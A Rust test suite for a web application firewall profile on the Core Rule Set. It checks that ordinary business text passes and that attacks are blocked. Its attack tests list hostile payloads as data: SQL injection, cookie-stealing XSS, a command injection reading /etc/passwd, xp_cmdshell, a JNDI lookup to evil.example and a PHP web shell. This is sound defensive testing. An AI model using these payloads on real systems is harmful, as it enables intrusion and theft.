//! The shipped profile on top of Debian's Core Rule Set: ordinary business passes, attacks do not.

use std::net::{IpAddr, Ipv4Addr};
use std::path::{Path, PathBuf};

use cedargate_waf::seclang::{Budget, Disk, EngineMode, Interruption, Report, RequestHead, RuleSet, Setup, Way};

const RULES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../policies/waf/crs/main.conf");

/// The rules; none where the package is not installed.
fn rules() -> Option<RuleSet> {
    if !Path::new("/usr/share/modsecurity-crs/rules").is_dir() {
        println!("skipped: modsecurity-crs is not installed");
        return None;
    }
    let loaded = RuleSet::load(&Disk, &[PathBuf::from(RULES)]);
    Some(loaded.map_err(|errors| errors.iter().map(ToString::to_string).collect::<Vec<_>>()).unwrap())
}

struct Sent {
    method: &'static str,
    target: String,
    content_type: Option<String>,
    body: Vec<u8>,
    more: &'static [(&'static str, &'static str)],
}

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b' ' => "+".to_owned(),
            byte if byte.is_ascii_alphanumeric() || b"-._~".contains(&byte) => char::from(byte).to_string(),
            byte => format!("%{byte:02X}"),
        })
        .collect()
}

impl Sent {
    fn query(value: &str) -> Self {
        let target = format!("/inventory/items?limit=50&q={}", encoded(value));
        Self { method: "GET", target, content_type: None, body: Vec::new(), more: &[] }
    }

    fn with_body(method: &'static str, target: &str, content_type: &str, body: String) -> Self {
        let content_type = Some(content_type.to_owned());
        Self { method, target: target.to_owned(), content_type, body: body.into_bytes(), more: &[] }
    }

    fn form(value: &str) -> Self {
        let body = format!("name={}&amount=12.50&currency=EUR", encoded(value));
        Self::with_body("POST", "/orders/customers", "application/x-www-form-urlencoded", body)
    }

    fn json(value: &str) -> Self {
        let text = serde_json::to_string(value).unwrap();
        let body = format!(
            r#"{{"name": {text}, "address": {{"street": "Hauptstraße 5", "note": {text}}}, "lines": [{{"sku": "A-17/b", "quantity": 3, "price": 1.5}}, {{"sku": "x_9", "quantity": 1, "price": null}}], "tags": ["new", {text}]}}"#
        );
        Self::with_body("PATCH", "/inventory/items/01900000-0000-7000-8000-000000000001", "application/json", body)
    }

    fn multipart(value: &str) -> Self {
        let body = format!(
            "--X7\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{value}\r\n--X7\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report 2026-11.csv\"\r\nContent-Type: text/csv\r\n\r\nname;note\r\n{value};ok\r\n--X7--\r\n"
        );
        Self::with_body("POST", "/inventory/uploads", "multipart/form-data; boundary=X7", body)
    }

    fn text(value: &str) -> Self {
        Self::with_body("POST", "/orders/notes", "text/plain; charset=utf-8", value.to_owned())
    }
}

/// What the rules, set up as a route is, find in a request.
fn inspect(rules: &RuleSet, sent: &Sent) -> Report {
    inspect_within(rules, sent, Budget::Whole)
}

fn inspect_within(rules: &RuleSet, sent: &Sent, budget: Budget) -> Report {
    let mut scratch = rules.scratch();
    let tx = [("allowed_methods", sent.method), ("cedargate_route", "test.Any")];
    let setup = Setup { tx: &tx, reads_texts: true, budget, ..Setup::of(EngineMode::On) };
    let mut transaction = rules.begin(&mut scratch, Way::Compiled).set_up(setup);
    let length = sent.body.len().to_string();
    let mut headers = vec![
        ("Host", "acme.example.com"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
        ("Accept", "application/json, text/html;q=0.9"),
        ("Accept-Language", "de-DE,de;q=0.8,en-US;q=0.5,en;q=0.3"),
        ("Referer", "https://acme.example.com/inventory"),
        ("Cookie", "theme=dark; lang=de"),
    ];
    headers.extend(sent.content_type.as_deref().map(|content_type| ("Content-Type", content_type)));
    if sent.content_type.is_some() {
        headers.push(("Content-Length", &length));
    }
    headers.retain(|(name, _)| !sent.more.iter().any(|(more, _)| more == name));
    headers.extend(sent.more);
    transaction.request_head(&RequestHead {
        client: (IpAddr::V4(Ipv4Addr::new(192, 0, 2, 7)), 50_000),
        server: (IpAddr::V4(Ipv4Addr::LOCALHOST), 443),
        method: sent.method.as_bytes(),
        target: sent.target.as_bytes(),
        protocol: b"HTTP/1.1",
        headers: &headers,
        id: "profile",
    });
    transaction.request_body(&sent.body);
    transaction.finish()
}

/// What people and programs of a business send.
const ORDINARY: &[&str] = &[
    "O'Brien",
    "Miles O'Brien-D'Angelo",
    "Seán Ó'Faoláin",
    "L'Hôpital & Fils",
    "Coeur d'Alene",
    "Jean-Luc",
    "Dr. Select",
    "Union, NJ",
    "Ann & Bob Ltd.",
    "AT&T",
    "Müller GmbH & Co. KG",
    "Drop Table Mountain Tours",
    "N/A",
    "100%",
    "C++",
    "C#",
    "R&D; Sales",
    "李小龍",
    "Привет, мир!",
    "🙂 thanks!!",
    "Łódź",
    "Ελληνικά προϊόντα",
    "مرحبا بالعالم",
    "שלום עולם",
    "東京都千代田区丸の内1-9-1",
    "서울특별시 강남구",
    "नमस्ते दुनिया",
    "สวัสดีชาวโลก",
    "Þór Ásgeirsson",
    "Nguyễn Văn A",
    "Ünal Şahin",
    "221B Baker Street, London NW1 6XE",
    "1600 Pennsylvania Ave NW, Washington, DC 20500",
    "Hauptstraße 5 (Hinterhaus), 10115 Berlin",
    "12, rue de l'Église, 75015 Paris",
    "P.O. Box 1234",
    "c/o Smith, Flat 3/4",
    "Calle Mayor, 5 - 3º izq.",
    "Via dell'Oro 7/A",
    "ul. Świętokrzyska 12 m. 5",
    "Apt #4, 77 O'Connell St.",
    "ann.smith+orders@example.com",
    "https://www.example.com/catalogue?page=2&sort=price",
    "+49 (0)30 123456-78",
    "2026-11-20T17:30:00+01:00",
    "20.11.2026 18:15",
    "EUR 1.234,56",
    "$1,299.00 (incl. VAT)",
    "3 x 4 = 12",
    "5 < 6 and 7 > 3",
    "A-1001/b",
    "SKU: 00-17_x",
    "Size 10-12 (M/L)",
    "Please select an option from the list and update the table where needed.",
    "The union will select a new chair on Monday; the vote is 1 to 0.",
    "We'll drop the old table into storage, then insert a new one.",
    "I'd like to order 5 or 6 boxes, and if possible delete the last order.",
    "Rock 'n' roll isn't noise - it's music, and they're 'the best'.",
    "She said: \"It's fine\", and left.",
    "It's a dog's life, or so they say; don't you think so?",
    "Where is my order? It was to come from Hamburg by Friday.",
    "Create a table for the group having lunch, limit 10 people.",
    "Our tables are made of oak; join us and order by 5 pm!",
    "Insert the key into the lock and execute a quarter turn.",
    "Customers who return items within 30 days get their money back.",
    "All values in the set should be between 5 and 10.",
    "Alter the dress where it's too wide, and shorten it by 2 cm.",
    "Is there anything like 'Premium' or 'Gold' for our team?",
    "Declare goods worth more than 1,000 EUR at the customs desk.",
    "Meeting at 10:00. Agenda: budget (Q3 = 5% up), hiring, Q&A.",
    "Sizes (S, M, L, XL) are sold out; more soon.",
    "Load 5 pallets from dock 3, then call the warehouse.",
    "He wrote: \"We need to talk about Kevin\" - nobody laughed.",
    "Wann kommt die Ware? Wir brauchen sie bis Freitag; sonst: Storno!",
    "Pourriez-vous m'envoyer la facture de l'année dernière, s'il vous plaît ?",
    "¿Dónde está mi pedido? ¡Lo necesito mañana!",
    "Il conto dell'ultimo mese non c'è; potete inviarlo all'indirizzo qui sotto?",
    "Proszę o wystawienie faktury nr 12/2026 na firmę.",
    "注文の商品がまだ届きません。確認をお願いします。",
    "请尽快发货，谢谢！订单号：20261120-001",
    "Bitte Lieferung nur nach Absprache (Tel. 030/12345)!",
    "Temperature: -18 °C ± 2; humidity <= 60 %",
    "first,second,third",
    "a;b;c",
    "key: value",
    "yes",
    "true",
    "null",
    "0",
    "-1",
    "1e5",
    "Line one\r\nLine two\r\n\r\nLine four",
    "- milk\n- eggs\n- bread",
    "# Notes\n\nSee *page 5* and `item A`.",
    "{\"colour\": \"red\", \"size\": 5}",
    "[1, 2, 3]",
    "Re: Your order #4711 [urgent]",
    "50% off, 2-for-1 (today only)",
    "Fragile! Do not stack > 3 boxes",
    "See attachment: plan_v2 (final).pdf",
    "ISBN 978-3-16-148410-0",
    "IBAN DE89 3704 0044 0532 0130 00",
    "lot 2026/11-A",
    "Q: when? A: soon.",
    "approx. 5 kg / 11 lbs",
];

/// A way of sending a text, and its name.
type Carrier = (&'static str, fn(&str) -> Sent);

const CARRIERS: [Carrier; 5] = [
    ("query", Sent::query),
    ("form", Sent::form),
    ("JSON", Sent::json),
    ("upload", Sent::multipart),
    ("text", Sent::text),
];

/// What CRS 3.3 takes for an attack at paranoia level 1, however it is sent, and by which rule: prose that is a statement or a
/// comparison, and a shell's or console's command behind what joins commands. They are other rule sets' to mend, and an exclusion's.
const KNOWN: &[(&str, u64)] = &[
    ("https://www.example.com/catalogue?page=2&sort=price", 932_115),
    ("5 < 6 and 7 > 3", 942_100),
    ("The union will select a new chair on Monday; the vote is 1 to 0.", 942_190),
    ("Create a table for the group having lunch, limit 10 people.", 942_230),
    ("Sizes (S, M, L, XL) are sold out; more soon.", 932_100),
];

#[test]
fn ordinary_business_is_not_blocked() {
    let Some(rules) = rules() else { return };
    let mut blocked = Vec::new();
    let mut count = 0;
    for value in ORDINARY {
        for (carrier, send) in CARRIERS {
            let report = inspect(&rules, &send(value));
            if let Some((_, rule)) = KNOWN.iter().find(|(known, _)| known == value) {
                assert!(report.ids().any(|id| id == *rule), "{carrier}: {value}: no exception any more");
                continue;
            }
            count += 1;
            if report.interruption.is_some() {
                blocked.push(format!(
                    "{carrier}: {value}: {:?} {:?}",
                    report.interruption,
                    report.ids().collect::<Vec<_>>()
                ));
            }
        }
    }
    assert!(count >= 500, "{count} requests");
    assert!(blocked.is_empty(), "{} of {count}: {blocked:#?}", blocked.len());
}

#[test]
fn a_brief_budget_is_enough_for_ordinary_business_and_not_for_what_is_made_to_cost() {
    let Some(rules) = rules() else { return };
    assert_eq!((rules.weaknesses(), rules.stops()), (vec![], 3));
    for value in ORDINARY {
        for (carrier, send) in CARRIERS {
            let is_cut_short = inspect_within(&rules, &send(value), Budget::Brief).is_cut_short;
            assert!(!is_cut_short, "{carrier}: {value}");
        }
    }
    // Short enough for the proxy's own thread, by its octets.
    let values: Vec<_> = (0..200).map(|index| format!("\"%27{index}%22<or/*\"")).collect();
    let hostile = Sent::with_body("POST", "/x", "application/json", format!("[{}]", values.join(",")));
    assert!(hostile.body.len() < 4_000 && inspect_within(&rules, &hostile, Budget::Brief).is_cut_short);
}

#[test]
fn what_the_profile_narrows_is_not_blocked() {
    let Some(rules) = rules() else { return };
    let with = |more, sent: Sent| Sent { more, ..sent };
    let fine = [
        with(&[("Content-Range", "bytes 0-99/1234")], Sent::text("hello")),
        with(&[("If", "(<urn:uuid:1>)")], Sent::json("hello")),
        with(&[("Accept-Charset", "utf-8")], Sent::query("hello")),
        Sent::with_body("POST", "/x", "text/csv", "name;note\r\nO'Brien;fine\r\n".to_owned()),
        Sent::with_body("POST", "/x", "application/x-ndjson", "{\"a\":1}\n{\"b\":\"x\"}\n".to_owned()),
        Sent::query("{\"filter\": {\"colour\": [\"red\", \"blue\"]}}"),
        with(
            &[("Sec-Fetch-Mode", "cors"), ("Sec-Fetch-Site", "cross-site"), ("Referer", "https://shop.example.net/a")],
            Sent { target: "/inventory/items?phpsessid=4711".to_owned(), ..Sent::query("") },
        ),
    ];
    for sent in fine {
        let report = inspect(&rules, &sent);
        assert_eq!(
            report.interruption,
            None,
            "{} {:?}: {:?}",
            sent.target,
            sent.content_type,
            report.ids().collect::<Vec<_>>()
        );
    }
}

#[test]
fn attacks_are_blocked_however_they_are_sent() {
    let Some(rules) = rules() else { return };
    let mut passed = Vec::new();
    for attack in [
        "1' UNION SELECT password FROM users-- -",
        "<script>alert(document.cookie)</script>",
        "../../../../etc/passwd",
        "; cat /etc/passwd",
        "'; exec xp_cmdshell('dir')--",
        "<img src=x onerror=alert(1)>",
        "${jndi:ldap://evil.example/a}",
        "<?php system($_GET['c']); ?>",
    ] {
        for (carrier, send) in CARRIERS {
            let report = inspect(&rules, &send(attack));
            if !matches!(report.interruption, Some(Interruption::Rule { .. })) {
                passed.push(format!("{carrier}: {attack}: {:?}", report.ids().collect::<Vec<_>>()));
            }
        }
    }
    assert!(passed.is_empty(), "{passed:#?}");
}

#[test]
fn what_the_profile_narrows_still_finds_attacks() {
    let Some(rules) = rules() else { return };
    let with = |more, sent: Sent| Sent { more, ..sent };
    let hidden = Sent::query("' or json_extract('{\"a\":1}', '$.a') = 1 or '");
    let refused = [
        hidden,
        Sent::query("1 or '{\"a\":1}'::jsonb @> '{\"a\":1}'"),
        with(&[("Proxy", "http://evil.example")], Sent::query("hello")),
        with(&[("X-HTTP-Method-Override", "DELETE")], Sent::text("hello")),
        Sent::with_body("POST", "/x", "application/x-protobuf", "x".to_owned()),
        with(
            &[("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-Site", "cross-site"), ("Referer", "https://evil.example/a")],
            Sent { target: "/inventory/items?phpsessid=4711".to_owned(), ..Sent::query("") },
        ),
    ];
    for sent in refused {
        let report = inspect(&rules, &sent);
        assert!(
            report.interruption.is_some(),
            "{} {:?}: {:?}",
            sent.target,
            sent.content_type,
            report.ids().collect::<Vec<_>>()
        );
    }
}
